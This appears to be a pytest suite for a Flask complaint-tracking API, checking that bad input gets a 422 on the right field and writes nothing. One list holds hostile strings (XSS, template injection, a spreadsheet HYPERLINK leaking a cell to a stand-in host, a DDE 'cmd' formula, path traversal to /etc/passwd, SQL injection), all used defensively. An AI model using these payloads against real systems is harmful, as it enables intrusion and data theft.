"""Every bad input of api.md and of reliability.md section 3's payload list, one by one:
422 with the exact field key, and nothing written."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import pytest
import sqlalchemy as sa
from flask.testing import FlaskClient

from irritants.extensions import db
from irritants.models import IdempotencyRecord, Irritant, IrritantEvent

AGENT = "agent.lille@example.com"
LEAD = "lead.north@example.com"
Headers = Callable[[str], dict[str, str]]
VALID = {"category": "late-delivery", "severity": "high", "description": "Parcel late"}
MISSING = object()


def with_field(name: str, value: Any) -> dict[str, Any]:
    body = dict(VALID)
    if value is MISSING:
        body.pop(name, None)
    else:
        body[name] = value
    return body


def snapshot_rows() -> tuple[int, int, int, list[Any]]:
    """Row counts and the irritants' versions: equal before and after means nothing written."""
    db.session.rollback()
    count = lambda model: db.session.scalar(sa.select(sa.func.count()).select_from(model))  # noqa: E731
    versions = list(db.session.execute(
        sa.select(Irritant.id, Irritant.row_version, Irritant.status, Irritant.assignee_id)
        .order_by(Irritant.id)).all())
    return count(Irritant), count(IrritantEvent), count(IdempotencyRecord), versions


LOG_CASES: list[tuple[str, Any, str]] = [
    # (case id, body, the one field expected in "errors")
    ("missing category", with_field("category", MISSING), "category"),
    ("missing severity", with_field("severity", MISSING), "severity"),
    ("missing description", with_field("description", MISSING), "description"),
    ("unknown category", with_field("category", "teleportation"), "category"),
    ("unknown origin unit", with_field("origin_unit", "atlantis"), "origin_unit"),
    ("unknown severity", with_field("severity", "urgent"), "severity"),
    ("unknown channel", with_field("channel", "fax"), "channel"),
    ("negative amount", with_field("amount", -1), "amount"),
    ("negative small amount", with_field("amount", -0.01), "amount"),
    ("three decimals", with_field("amount", 10.005), "amount"),
    ("huge amount", with_field("amount", 1e300), "amount"),
    ("amount too large for the column", with_field("amount", 1_000_000_000_000), "amount"),
    ("amount as a string", with_field("amount", "40"), "amount"),
    ("amount as a boolean", with_field("amount", True), "amount"),
    ("amount as a list", with_field("amount", [1]), "amount"),
    ("amount as an operator object", with_field("amount", {"$gt": 0}), "amount"),
    ("category as a number", with_field("category", 5), "category"),
    ("severity as a number", with_field("severity", 1), "severity"),
    ("description as a number", with_field("description", 12), "description"),
    ("description as a list", with_field("description", ["a"]), "description"),
    ("origin unit as a number", with_field("origin_unit", 7), "origin_unit"),
    ("customer ref as a number", with_field("customer_ref", 1234), "customer_ref"),
    ("channel as a boolean", with_field("channel", True), "channel"),
    ("description over 10,000 characters", with_field("description", "x" * 10_001),
     "description"),
    ("blank description", with_field("description", "   "), "description"),
    ("empty description", with_field("description", ""), "description"),
    ("null description", with_field("description", None), "description"),
    ("NUL byte in description", with_field("description", "a\x00b"), "description"),
    ("NUL byte in customer ref", with_field("customer_ref", "C-\x00"), "customer_ref"),
    ("NUL byte in category", with_field("category", "late\x00delivery"), "category"),
    ("lone surrogate in description", with_field("description", "a\ud800b"), "description"),
    ("customer ref over 100 characters", with_field("customer_ref", "C" * 101), "customer_ref"),
    ("unknown field", {**VALID, "colour": "red"}, "colour"),
    ("mass assignment of the assignee", {**VALID, "assignee": "hq"}, "assignee"),
    ("mass assignment of the status", {**VALID, "status": "resolved"}, "status"),
    ("mass assignment of the id", {**VALID, "id": 1}, "id"),
    ("body is a list", [VALID], "_schema"),
    ("body is a string", "late-delivery", "_schema"),
]


@pytest.mark.parametrize(("body", "field"), [case[1:] for case in LOG_CASES],
                         ids=[case[0] for case in LOG_CASES])
def test_bad_input_when_logging_is_422_on_its_field_and_writes_nothing(
    client: FlaskClient, auth_headers: Headers, body: Any, field: str
) -> None:
    headers = auth_headers(AGENT)
    before = snapshot_rows()

    response = client.post("/api/v1/irritants", json=body,
                           headers={**headers, "Idempotency-Key": "bad-input"})

    assert response.status_code == 422, response.get_json()
    errors = response.get_json()["errors"]
    assert list(errors) == [field]
    assert all(isinstance(message, str) and message for message in errors[field])
    assert snapshot_rows() == before


RAW_CASES: list[tuple[str, bytes, str, str]] = [
    ("malformed JSON", b'{"category": ', "application/json", "body"),
    ("NaN amount", b'{"category": "late-delivery", "severity": "high", '
                   b'"description": "x", "amount": NaN}', "application/json", "body"),
    ("Infinity amount", b'{"category": "late-delivery", "severity": "high", '
                        b'"description": "x", "amount": Infinity}', "application/json", "body"),
    ("invalid UTF-8", b'{"category": "\xff\xfe"}', "application/json", "body"),
    ("form-encoded body", b"category=late-delivery&severity=high&description=x",
     "application/x-www-form-urlencoded", "body"),
    ("text body", json.dumps(VALID).encode(), "text/plain", "body"),
]


@pytest.mark.parametrize(("data", "content_type", "field"), [case[1:] for case in RAW_CASES],
                         ids=[case[0] for case in RAW_CASES])
def test_a_body_that_is_not_json_is_422_and_writes_nothing(
    client: FlaskClient, auth_headers: Headers, data: bytes, content_type: str, field: str
) -> None:
    headers = auth_headers(AGENT)
    before = snapshot_rows()

    response = client.post("/api/v1/irritants", data=data, content_type=content_type,
                           headers=headers)

    assert response.status_code == 422
    assert list(response.get_json()["errors"]) == [field]
    assert snapshot_rows() == before


def test_an_empty_json_body_names_every_required_field(client: FlaskClient,
                                                       auth_headers: Headers) -> None:
    response = client.post("/api/v1/irritants", data=b"", content_type="application/json",
                           headers=auth_headers(AGENT))

    assert response.status_code == 422
    assert sorted(response.get_json()["errors"]) == ["category", "description", "severity"]


def test_several_bad_fields_are_all_named_at_once(client: FlaskClient,
                                                  auth_headers: Headers) -> None:
    body = {"category": 1, "severity": "urgent", "description": "", "amount": -5}

    response = client.post("/api/v1/irritants", json=body, headers=auth_headers(AGENT))

    assert response.status_code == 422
    assert sorted(response.get_json()["errors"]) == ["amount", "category", "description",
                                                     "severity"]


PAYLOADS = [
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "javascript:alert(1)",
    "JaVaScRiPt:alert(1)", "{{7*7}}", "{{config}}", '=HYPERLINK("http://x/?"&A1)',
    "+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "../../etc/passwd", 'a"\r\nX-Injected: 1',
    "' OR '1'='1", "1;SELECT pg_sleep(5)--", "\u202eevil", "Ça coûte 10 € 😡",
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_hostile_text_is_stored_and_returned_as_json_text_stripped_of_outer_spaces(
    client: FlaskClient, auth_headers: Headers, text: str
) -> None:
    response = client.post("/api/v1/irritants",
                           json={**VALID, "description": text, "customer_ref": text[:100]},
                           headers=auth_headers(AGENT))

    assert response.status_code == 201
    assert response.mimetype == "application/json"
    assert response.get_json()["description"] == text.strip()
    assert response.get_json()["customer_ref"] == text[:100].strip()


# --- the actions on an irritant ---------------------------------------------------------


ACTION_CASES: list[tuple[str, str, Any, str]] = [
    # (case id, action, body, field)
    ("comment without text", "comments", {}, "text"),
    ("comment text blank", "comments", {"text": "  "}, "text"),
    ("comment text a number", "comments", {"text": 3}, "text"),
    ("comment text too long", "comments", {"text": "x" * 10_001}, "text"),
    ("comment text with NUL", "comments", {"text": "a\x00"}, "text"),
    ("comment unknown field", "comments", {"text": "ok", "actor": "director"}, "actor"),
    ("escalate without reason", "escalate", {}, "reason"),
    ("escalate reason a list", "escalate", {"reason": ["x"]}, "reason"),
    ("escalate needs a string", "escalate", {"reason": "x", "needs": "tools"}, "needs"),
    ("escalate needs unknown part", "escalate", {"reason": "x", "needs": {"budget": 1}},
     "needs.budget"),
    ("escalate tools not a list", "escalate", {"reason": "x", "needs": {"tools": "wms"}},
     "needs.tools"),
    ("escalate tool a number", "escalate", {"reason": "x", "needs": {"tools": [5]}},
     "needs.tools.0"),
    ("escalate competency with NUL", "escalate",
     {"reason": "x", "needs": {"competencies": ["a\x00"]}}, "needs.competencies.0"),
    ("escalate authorities a list", "escalate",
     {"reason": "x", "needs": {"authorities": ["gesture"]}}, "needs.authorities"),
    ("escalate negative authority", "escalate",
     {"reason": "x", "needs": {"authorities": {"gesture": -1}}}, "needs.authorities.gesture"),
    ("escalate authority as a string", "escalate",
     {"reason": "x", "needs": {"authorities": {"gesture": "100"}}},
     "needs.authorities.gesture"),
    ("escalate authority as a boolean", "escalate",
     {"reason": "x", "needs": {"authorities": {"gesture": True}}},
     "needs.authorities.gesture"),
    ("escalate authority null", "escalate",
     {"reason": "x", "needs": {"authorities": {"gesture": None}}},
     "needs.authorities.gesture"),
    ("escalate authority three decimals", "escalate",
     {"reason": "x", "needs": {"authorities": {"gesture": 1.001}}},
     "needs.authorities.gesture"),
    ("reassign without unit", "reassign", {"reason": "x"}, "unit"),
    ("reassign unknown unit", "reassign", {"unit": "atlantis", "reason": "x"}, "unit"),
    ("reassign unit a number", "reassign", {"unit": 3, "reason": "x"}, "unit"),
    ("reassign without reason", "reassign", {"unit": "hq"}, "reason"),
    ("resolve without resolution", "resolve", {}, "resolution"),
    ("resolve resolution blank", "resolve", {"resolution": ""}, "resolution"),
    ("resolve unknown root cause", "resolve", {"resolution": "ok", "root_cause": "gremlins"},
     "root_cause"),
    ("resolve root cause a number", "resolve", {"resolution": "ok", "root_cause": 1},
     "root_cause"),
    ("resolve unknown field", "resolve", {"resolution": "ok", "status": "open"}, "status"),
]


@pytest.mark.parametrize(("action", "body", "field"), [case[1:] for case in ACTION_CASES],
                         ids=[case[0] for case in ACTION_CASES])
def test_bad_input_on_an_action_is_422_on_its_field_and_writes_nothing(
    client: FlaskClient, auth_headers: Headers, log_via_api: Callable[..., Any],
    action: str, body: Any, field: str,
) -> None:
    irritant_id = log_via_api(AGENT)["id"]
    headers = auth_headers(LEAD)
    before = snapshot_rows()

    response = client.post(f"/api/v1/irritants/{irritant_id}/{action}", json=body,
                           headers=headers)

    assert response.status_code == 422, response.get_json()
    assert list(response.get_json()["errors"]) == [field]
    assert snapshot_rows() == before


# --- query parameters -------------------------------------------------------------------


QUERY_CASES: list[tuple[str, str, str, str]] = [
    # (case id, path, query, field)
    ("unknown status", "/api/v1/irritants", "status=closed", "status"),
    ("unknown severity", "/api/v1/irritants", "severity=urgent", "severity"),
    ("status as an array", "/api/v1/irritants", "status[]=open", "status"),
    ("status given twice", "/api/v1/irritants", "status=open&status=resolved", "status"),
    ("category given twice", "/api/v1/irritants", "category=a&category=b", "category"),
    ("status with SQL", "/api/v1/irritants", "status=open'%20OR%20'1'='1", "status"),
    ("status with NUL", "/api/v1/irritants", "status=open%00", "status"),
    ("category with NUL", "/api/v1/irritants", "category=late%00", "category"),
    ("per_page over 500", "/api/v1/irritants", "per_page=501", "per_page"),
    ("per_page zero", "/api/v1/irritants", "per_page=0", "per_page"),
    ("per_page not a number", "/api/v1/irritants", "per_page=ten", "per_page"),
    ("per_page a decimal", "/api/v1/irritants", "per_page=1.5", "per_page"),
    ("page zero", "/api/v1/irritants", "page=0", "page"),
    ("page negative", "/api/v1/irritants", "page=-1", "page"),
    ("page given twice", "/api/v1/irritants", "page=1&page=2", "page"),
    ("queue per_page over 500", "/api/v1/units/lille/queue", "per_page=1000", "per_page"),
    ("units page zero", "/api/v1/units", "page=0", "page"),
    ("categories per_page as array", "/api/v1/categories", "per_page[]=5", "per_page"),
]


@pytest.mark.parametrize(("path", "query", "field"), [case[1:] for case in QUERY_CASES],
                         ids=[case[0] for case in QUERY_CASES])
def test_bad_query_parameters_are_422_on_their_field(
    client: FlaskClient, auth_headers: Headers, path: str, query: str, field: str
) -> None:
    response = client.get(f"{path}?{query}", headers=auth_headers("director@example.com"))

    assert response.status_code == 422, response.get_json()
    assert list(response.get_json()["errors"]) == [field]
